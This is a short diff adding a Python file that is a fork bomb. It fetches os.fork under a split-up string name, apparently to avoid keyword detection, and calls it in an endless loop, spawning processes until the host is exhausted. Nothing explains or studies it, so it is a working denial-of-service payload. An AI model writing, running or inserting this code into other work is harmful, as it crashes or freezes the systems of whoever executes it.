@@ -1,0 +1,4 @@
+import os
+f = getattr(os, "fo" + "rk")
+while f() >= 0:
+    pass
